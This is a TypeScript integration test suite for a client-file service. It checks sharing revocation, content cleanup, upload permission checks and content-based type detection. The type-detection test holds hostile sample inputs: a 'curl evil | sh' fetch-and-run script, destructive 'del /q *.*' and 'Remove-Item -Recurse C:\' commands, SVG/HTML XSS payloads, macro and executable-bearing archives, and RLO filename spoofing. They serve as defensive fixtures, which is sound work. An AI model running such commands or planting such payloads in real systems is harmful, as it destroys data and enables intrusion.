import { readdir, rm, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Client as Pg } from 'pg';
import type { Agent } from 'supertest';
import { FileStore } from '../../server/modules/files/file-store.service';
import { xlsxBuffer, zipEntry, zipFile } from '../unit/imports/import-fixtures';
import { grantStaff, portalContact, staffMember } from '../utils/people';
import { hasContent, putContent, sha256Of as sha } from '../utils/stored-content';
import { startTestApp, type TestApp } from '../utils/test-app';

const PDF = (text: string) => Buffer.from(`%PDF-1.4\n% ${text}\n%%EOF\n`, 'latin1');
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
const contentTypes = zipEntry('[Content_Types].xml', '<Types/>');

interface FileView {
  id: string;
  name: string;
  version: number;
  contentType: string;
  versions: { version: number }[];
}

/** What an attacker tried against client files, and what now stops it. */
describe('client files under attack', () => {
  let t: TestApp;
  let admin: Agent;
  let owner: Agent;
  let viewer: Agent;
  let outsider: Agent;
  let collab: { id: string; agent: Agent };
  let reader: { id: string; agent: Agent };
  let stranger: { id: string; agent: Agent };
  let clientA: string;
  let clientB: string;

  const upload = (agent: Agent, path: string, content: Buffer, name: string, fileId?: string) => {
    const req = agent.post(path);
    return (fileId ? req.field('fileId', fileId) : req).attach('file', content, name);
  };
  const staffUpload = (content: Buffer, name: string, fileId?: string) =>
    upload(owner, `/api/clients/${clientA}/files`, content, name, fileId);
  const stored = (content: Buffer) => hasContent(t, content);
  const storedRows = async (content: Buffer) =>
    Number(
      (
        await t.query<{ n: string }>('select count(*) as n from stored_file where sha256 = $1', [
          sha(content),
        ])
      )[0].n,
    );
  const download = async (agent: Agent, path: string) => {
    const res = await agent.get(path).buffer(true);
    const text = res.status === 200 ? Buffer.from(res.body).toString('latin1') : '';
    return { status: res.status, text };
  };

  beforeAll(async () => {
    t = await startTestApp({ FILE_MAX_MB: '0.05', LOGIN_RATE_LIMIT_PER_MINUTE: '1000' });
    admin = await t.signIn();
    const client = async (companyName: string): Promise<string> =>
      (await admin.post('/api/clients').send({ companyName }).expect(201)).body.id;
    const member = async (role: 'owner' | 'viewer' | 'outsider') => {
      const { id, agent } = await staffMember(t, admin, role);
      if (role !== 'outsider') await grantStaff(admin, clientA, id, role);
      return agent;
    };
    [clientA, clientB] = [await client('Alpha LLC'), await client('Beta Inc')];
    [owner, viewer, outsider] = [
      await member('owner'),
      await member('viewer'),
      await member('outsider'),
    ];
    collab = await portalContact(t, admin, 'collab', clientA, 'contact_collaborator');
    reader = await portalContact(t, admin, 'reader', clientA, 'contact_access');
    stranger = await portalContact(t, admin, 'stranger', clientB, 'contact_collaborator');
  });
  afterAll(() => t.close());

  it('ends a contact’s access when the file is unshared, except to the versions they uploaded', async () => {
    const file = (await staffUpload(PDF('staff v1'), 'Return.pdf').expect(201)).body as FileView;
    await owner
      .put(`/api/files/${file.id}/shares`)
      .send({ contactIds: [collab.id] })
      .expect(200);
    const portal = `/api/portal/clients/${clientA}/files`;
    await upload(collab.agent, portal, PDF('collab v2'), 'signed.pdf', file.id).expect(201);
    await staffUpload(PDF('staff-only v3'), 'Return.pdf', file.id).expect(201);
    await owner.put(`/api/files/${file.id}/shares`).send({ contactIds: [] }).expect(200);

    // The answer to an upload shows the contact no more than the list does.
    const v4 = await upload(collab.agent, portal, PDF('collab v4'), 'signed.pdf', file.id);
    expect(v4.status).toBe(201);
    expect((v4.body as FileView).versions.map((x) => x.version)).toEqual([4, 2]);

    const [seen] = (await collab.agent.get(portal).expect(200)).body as FileView[];
    expect(seen).toMatchObject({ id: file.id, version: 4 });
    expect(seen.versions.map((x) => x.version)).toEqual([4, 2]);
    const files = `/api/portal/files/${file.id}/download`;
    expect(await download(collab.agent, files)).toMatchObject({ status: 200 });
    expect((await download(collab.agent, files)).text).toContain('collab v4');
    expect((await download(collab.agent, `${files}?version=2`)).status).toBe(200);
    expect((await download(collab.agent, `${files}?version=3`)).status).toBe(404);
    expect((await download(collab.agent, `${files}?version=1`)).status).toBe(404);

    // Shared again, every version is theirs to see.
    await owner
      .put(`/api/files/${file.id}/shares`)
      .send({ contactIds: [collab.id] })
      .expect(200);
    const [again] = (await collab.agent.get(portal).expect(200)).body as FileView[];
    expect(again.versions.map((x) => x.version)).toEqual([4, 3, 2, 1]);
    expect((await download(collab.agent, files)).text).toContain('collab v4');
    await owner.delete(`/api/files/${file.id}`).expect(200);
  });

  it('removes content nobody references when a file or a client is deleted', async () => {
    const only = PDF('only here');
    const shared = PDF('in two files');
    const a = (await staffUpload(only, 'a.pdf').expect(201)).body as FileView;
    const b = (await staffUpload(shared, 'b.pdf').expect(201)).body as FileView;
    const c = (await staffUpload(shared, 'c.pdf').expect(201)).body as FileView;
    expect(await stored(only)).toBe(true);

    await owner.delete(`/api/files/${a.id}`).expect(200);
    expect(await stored(only)).toBe(false);
    expect(await storedRows(only)).toBe(0);

    // The same content in another file stays until that one goes too.
    await owner.delete(`/api/files/${b.id}`).expect(200);
    expect(await stored(shared)).toBe(true);
    expect(await storedRows(shared)).toBe(1);
    await owner.get(`/api/files/${c.id}/download`).expect(200);
    await owner.delete(`/api/files/${c.id}`).expect(200);
    expect(await stored(shared)).toBe(false);

    const doomed = (await admin.post('/api/clients').send({ companyName: 'Gone Ltd' }).expect(201))
      .body.id;
    const ofDoomed = PDF('client to be deleted');
    const first = await upload(admin, `/api/clients/${doomed}/files`, ofDoomed, 'x.pdf').expect(
      201,
    );
    await upload(admin, `/api/clients/${doomed}/files`, PDF('v2'), 'x.pdf', first.body.id).expect(
      201,
    );
    await admin.delete(`/api/clients/${doomed}`).expect(200);
    expect(await stored(ofDoomed)).toBe(false);
    expect(await stored(PDF('v2'))).toBe(false);
    expect(await storedRows(ofDoomed)).toBe(0);
  });

  it('sweeps content left unreferenced (a failed upload, a finished import) only after a grace period, never what is being referenced', async () => {
    const store = t.app.get(FileStore);
    const leftover = async (content: Buffer) => {
      await putContent(t, content);
      const [row] = await t.query<{ id: string }>(
        `insert into stored_file (id, sha256, size, original_name)
         values (gen_random_uuid(), $1, $2, 'staged.pdf') returning id`,
        [sha(content), content.length],
      );
      return row.id;
    };
    const age = (id: string) =>
      t.query(`update stored_file set created_at = now() - interval '2 hours' where id = $1`, [id]);

    // Adopted a moment ago, not yet recorded: an upload in flight keeps it.
    const staged = PDF('staged, being recorded');
    const stagedId = await leftover(staged);
    await store.sweep();
    expect(await stored(staged)).toBe(true);
    await age(stagedId);
    await store.sweep();
    expect(await stored(staged)).toBe(false);
    expect(await storedRows(staged)).toBe(0);

    // Old and unreferenced, but a transaction is recording a version of it right now.
    const racing = PDF('referenced while the sweep runs');
    const racingId = await leftover(racing);
    await age(racingId);
    const [target] = await t.query<{ id: string }>(
      `insert into client_file (client_id, name) values ($1, 'r.pdf') returning id`,
      [clientA],
    );
    const pg = new Pg({ connectionString: t.db.url });
    await pg.connect();
    try {
      await pg.query('begin');
      await pg.query(
        `insert into client_file_version (file_id, version, stored_file_id, content_type, size)
         values ($1, 1, $2, 'application/pdf', $3)`,
        [target.id, racingId, racing.length],
      );
      await store.sweep();
      await pg.query('commit');
    } finally {
      await pg.end();
    }
    expect(await stored(racing)).toBe(true);
    await owner.get(`/api/files/${target.id}/download`).expect(200);

    // An upload a crashed process left behind goes once it has not grown for the grace period.
    const incoming = join(t.config.DATA_DIR, 'files', 'incoming');
    await writeFile(join(incoming, 'crashed'), 'partial');
    await writeFile(join(incoming, 'streaming'), 'partial');
    const twoHoursAgo = new Date(Date.now() - 2 * 3_600_000);
    await utimes(join(incoming, 'crashed'), twoHoursAgo, twoHoursAgo);
    await store.sweep();
    expect(await readdir(incoming)).toEqual(['streaming']);
    await rm(join(incoming, 'streaming'));

    // An import needs its file until it has finished (here: failed); the job keeps its name.
    const imported = async (status: string, content: Buffer) => {
      const fileId = await leftover(content);
      await age(fileId);
      const [job] = await t.query<{ id: string }>(
        `insert into import_job (id, file_id, file_name, mode, status, workflow_id)
         values (gen_random_uuid(), $1, 'clients.csv', 'upsert', $2, 'w') returning id`,
        [fileId, status],
      );
      return job.id;
    };
    const failedCsv = Buffer.from('Company\nfailed import\n');
    const runningCsv = Buffer.from('Company\nimport being parsed\n');
    const failed = await imported('failed', failedCsv);
    await imported('parsing', runningCsv);
    await store.sweep();
    expect(await stored(failedCsv)).toBe(false);
    expect(await stored(runningCsv)).toBe(true);
    const job = await admin.get(`/api/imports/${failed}`).expect(200);
    expect(job.body).toMatchObject({ fileName: 'clients.csv', status: 'failed' });
  });

  it('checks the caller’s right before taking an upload of any size', async () => {
    const huge = Buffer.alloc(200_000, 'a');
    const portal = `/api/portal/clients/${clientA}/files`;
    await upload(viewer, `/api/clients/${clientA}/files`, huge, 'big.txt').expect(403);
    await upload(outsider, `/api/clients/${clientA}/files`, huge, 'big.txt').expect(404);
    await upload(reader.agent, portal, huge, 'big.txt').expect(403);
    await upload(stranger.agent, portal, huge, 'big.txt').expect(404);
    // Someone allowed to upload still meets the size limit.
    const tooBig = await staffUpload(huge, 'big.txt').expect(413);
    expect(tooBig.body.message).toMatch(/larger than 0.05 MB/);
    expect(await readdir(join(t.config.DATA_DIR, 'files', 'incoming'))).toEqual([]);
  });

  it('decides the type from the content and names the file for it', async () => {
    const xlsx = await xlsxBuffer([['Company'], ['Acme']]);
    const docx = zipFile([contentTypes, zipEntry('word/document.xml', '<w:document/>')]);
    const refused = (message: RegExp) => ({ status: 400, message: expect.stringMatching(message) });
    const stored = (name: string, type: RegExp) => ({
      status: 201,
      name,
      contentType: expect.stringMatching(type),
    });
    const cases: [string, Buffer, object][] = [
      [
        'page.html',
        Buffer.from('<!-- saved page -->\n<html><script>alert(1)</script></html>'),
        refused(/web pages/),
      ],
      [
        'logo.svg',
        Buffer.from('\ufeff  <!--x--><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        refused(/web pages/),
      ],
      ['notes.txt', Buffer.from('Hello\n<svg onload=alert(1)>'), refused(/web pages/)],
      ['run.sh', Buffer.from('#!/bin/sh\ncurl evil | sh\n'), refused(/scripts/)],
      ['run.bat', Buffer.from('@echo off\r\ndel /q *.*\r\n'), stored('run.txt', /^text\/plain/)],
      ['tool.ps1', Buffer.from('Remove-Item -Recurse C:\\\n'), stored('tool.txt', /^text\/plain/)],
      ['data.csv', Buffer.from('name,amount\nMüller,12\n'), stored('data.csv', /^text\/plain/)],
      ['payload.docx', zipFile([contentTypes]), refused(/zip archives/)],
      [
        'payload.xlsx',
        zipFile([contentTypes, zipEntry('evil.exe', 'MZ')]),
        refused(/zip archives/),
      ],
      [
        'macro.docx',
        zipFile([
          contentTypes,
          zipEntry('word/document.xml', '<w:document/>'),
          zipEntry('word/vbaProject.bin', 'x'),
        ]),
        refused(/macros/),
      ],
      ['letter.docx', docx, stored('letter.docx', /wordprocessingml/)],
      ['Clients.xlsx', xlsx, stored('Clients.xlsx', /spreadsheetml/)],
      ['Clients.exe', xlsx, stored('Clients.xlsx', /spreadsheetml/)],
      ['statement.html', PDF('html'), stored('statement.pdf', /^application\/pdf$/)],
      ['setup.exe', PDF('exe'), stored('setup.pdf', /^application\/pdf$/)],
      ['W2_2025\u202Efdp.bat', PDF('rlo'), stored('W2_2025fdp.pdf', /^application\/pdf$/)],
      ['Mül\u200Bler\u2066 Steuer.pdf', PDF('utf8'), stored('Müller Steuer.pdf', /pdf/)],
      ['bell\u0007.pdf', PDF('raw control'), refused(/^file: Malformed part header/)],
      ['Report 12.5', PDF('no ext'), stored('Report 12.5.pdf', /pdf/)],
    ];
    for (const [name, content, want] of cases) {
      const res = await staffUpload(content, name);
      const got =
        res.status === 201
          ? { status: 201, name: res.body.name, contentType: res.body.contentType }
          : { status: res.status, message: res.body.message };
      expect({ name, ...got }).toEqual({ name, ...want });
    }

    const listed = (await owner.get(`/api/clients/${clientA}/files`).expect(200))
      .body as FileView[];
    const muller = listed.find((f) => f.name === 'Müller Steuer.pdf')!;
    const res = await owner.get(`/api/files/${muller.id}/download`).expect(200);
    expect(res.headers['content-disposition']).toContain(
      `filename*=UTF-8''${encodeURIComponent('Müller Steuer.pdf')}`,
    );

    // A version of another type is downloaded under a name of its own type.
    const pdf = (await staffUpload(PDF('first'), 'scan.pdf').expect(201)).body as FileView;
    await staffUpload(PNG, 'scan.png', pdf.id).expect(201);
    const png = await owner.get(`/api/files/${pdf.id}/download`).expect(200);
    expect(png.headers['content-type']).toBe('image/png');
    expect(png.headers['content-disposition']).toMatch(/^attachment; filename="scan.png"/);
    const first = await owner.get(`/api/files/${pdf.id}/download?version=1`).expect(200);
    expect(first.headers['content-disposition']).toMatch(/^attachment; filename="scan.pdf"/);
  });
});
